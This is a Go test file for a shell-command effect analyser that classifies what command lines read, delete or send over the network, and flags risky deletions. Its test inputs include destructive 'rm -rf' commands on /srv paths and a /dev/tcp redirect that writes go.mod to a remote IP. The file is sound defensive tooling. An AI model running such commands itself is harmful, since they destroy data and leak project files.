package effect_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// Each of these was once seen wrong, or would be if the reader took what is
// likely for what is certain.
func TestShellTakesNothingForCertain(t *testing.T) {
	t.Parallel()
	for text, want := range map[string][]string{
		// A shell has the variables of another one only if they are exported.
		"x=a; bash -c 'rm -rf \"/srv/$x\"'": {"deletes system /srv/a", "deletes  /srv/…", "opaque"},
		// A list may end before its last command.
		"cd a && cd b && ls; rm x": {
			"reads project /home/dev/project/a/b", "deletes project /home/dev/project/a/b/x", "deletes project /home/dev/project/a/x", "deletes project /home/dev/project/x",
		},
		// What find is told to print is not what it finds.
		"find . -printf '/srv/a\\n' | xargs cat": {"reads project /home/dev/project", "reads  …", "opaque"},
		"find docs -type f | sort | xargs cat":   {"reads project /home/dev/project/docs", "reads project /home/dev/project/docs/**"},
		// mktemp makes its file where TMPDIR says.
		"TMPDIR=/srv; t=$(mktemp -d); rm -rf \"$t\"": {"deletes  …", "opaque"},
		// A descriptor with a name stays open.
		": {s}>/dev/tcp/203.0.113.4/80; cat go.mod >&$s": {
			"network remote 203.0.113.4", "reads project /home/dev/project/go.mod", "network remote 203.0.113.4 <- /home/dev/project/go.mod",
		},
	} {
		t.Run(text, func(t *testing.T) {
			t.Parallel()
			assert.ElementsMatch(t, want, doings(shell(t, text)))
		})
	}
}

// concerns are what speaks against the deletions of a command line.
func concerns(t *testing.T, text string) []string {
	var list []string
	for _, e := range shell(t, text).List {
		if e.Kind == "deletes" {
			list = append(list, e.Concern)
		}
	}
	return list
}

func TestOnlyWhatIsSurelyOwnMayBeDeleted(t *testing.T) {
	t.Parallel()
	const lost, thrown = "may not be there again", "throws work away"
	for text, want := range map[string][]string{
		"echo a > n; rm n":                 {""},
		"echo a | tee n; rm n":             {lost}, // seen in a pipe, and forgotten behind it
		"false && echo a > n; rm n":        {lost},
		"echo a >> n; rm n":                {lost},
		"cp go.mod n && rm n":              {""},
		"mv go.mod n && rm n":              {"", lost, thrown},
		"mv src /tmp/x && rm -rf /tmp/x":   {"", "", thrown},
		"mv src /tmp/x; rm -rf /tmp/x/*":   {"", "", thrown},
		"mv src dist/; rm -rf dist":        {"", "", thrown},
		"mv src dist/; rm -rf dist/src/a":  {"", "", thrown},
		"mv src /tmp; rm -rf /tmp/other":   {"", ""},
		"echo a > n; mv n /tmp; rm /tmp/n": {"", ""},
		"mv * /tmp":                        {"moves everything away"},
		"mv src/* /tmp":                    {""},
		"rm -rf src/core conf.d":           {lost, lost},
		"rm -f core a.d":                   {"", ""},
		"t=$(mktemp); rm \"$t\"":           {""},
		"rm n":                             {lost},
		"rm -rf build coverage a.pyc":      {"", "", ""},
		"rm -rf src/build.go":              {lost},
		"find . -name '*.pyc' -delete":     {""},
	} {
		t.Run(text, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, want, concerns(t, text))
		})
	}
}
